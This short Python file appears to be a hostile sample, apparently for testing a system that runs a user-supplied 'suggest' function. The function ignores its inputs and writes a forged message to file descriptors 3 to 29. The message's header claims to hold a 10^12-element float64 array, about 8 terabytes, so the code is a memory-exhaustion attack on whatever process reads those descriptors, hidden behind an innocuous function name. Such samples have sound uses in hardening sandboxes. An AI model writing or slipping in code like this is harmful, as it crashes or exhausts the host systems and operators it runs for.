# A message that says it holds 10^12 numbers.
# lost: suggest
import json, os, struct


def suggest(probabilities, k=3):
    huge = {"dtype": "F64", "shape": [1000000, 1000000], "data_offsets": [0, 8 * 10**12]}
    inside = json.dumps({"0": huge}).encode()
    head = json.dumps({"list": ["value", {"numpy": "0"}]}).encode()
    body = struct.pack("<Q", len(inside)) + inside
    for number in range(3, 30):
        try:
            os.write(number, struct.pack("<II", len(head), len(body)) + head + body)
        except OSError:
            pass
    return []
